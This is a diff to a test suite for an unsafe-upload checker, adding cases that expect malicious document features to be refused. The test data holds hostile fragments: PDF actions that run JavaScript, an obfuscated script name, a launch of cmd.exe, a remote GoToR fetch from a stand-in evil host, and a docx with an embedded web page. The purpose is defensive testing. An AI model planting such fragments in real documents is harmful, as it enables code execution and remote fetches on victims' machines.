@@ -106,6 +106,8 @@ describe('an unsafe file is refused', () => {
     ['a PDF with a script', 'x.pdf', pdf('1 0 obj << /OpenAction << /S /JavaScript /JS (x) >> >> endobj'), 'active'],
     ['a PDF with a script in #-codes', 'x.pdf', pdf('1 0 obj << /S /J#61vaScript >> endobj'), 'active'],
     ['a PDF that starts a program', 'x.pdf', pdf('1 0 obj << /S /Launch /F (cmd.exe) >> endobj'), 'active'],
+    ['a PDF that opens a file elsewhere', 'x.pdf', pdf('1 0 obj << /OpenAction << /S /GoToR /F (//evil.example/x) >> >> endobj'), 'active'],
+    ['a document with a packed web page', 'x.docx', docx([{ name: 'word/afchunk.mht', content: 'MIME-Version: 1.0' }]), 'active'],
     ['a PDF with an embedded file', 'x.pdf', pdf('1 0 obj << /Names << /EmbeddedFiles 3 0 R >> >> endobj'), 'active'],
     ['a PDF with a packed script', 'x.pdf', pdf(pdfStream('/Type /ObjStm /Filter /FlateDecode', packed('<< /S /JavaScript >>'))), 'active'],
     ['a PDF with a script in an uncompressed object stream', 'x.pdf', pdf(pdfStream('/Type /ObjStm /N 1 /First 4', script)), 'active'],
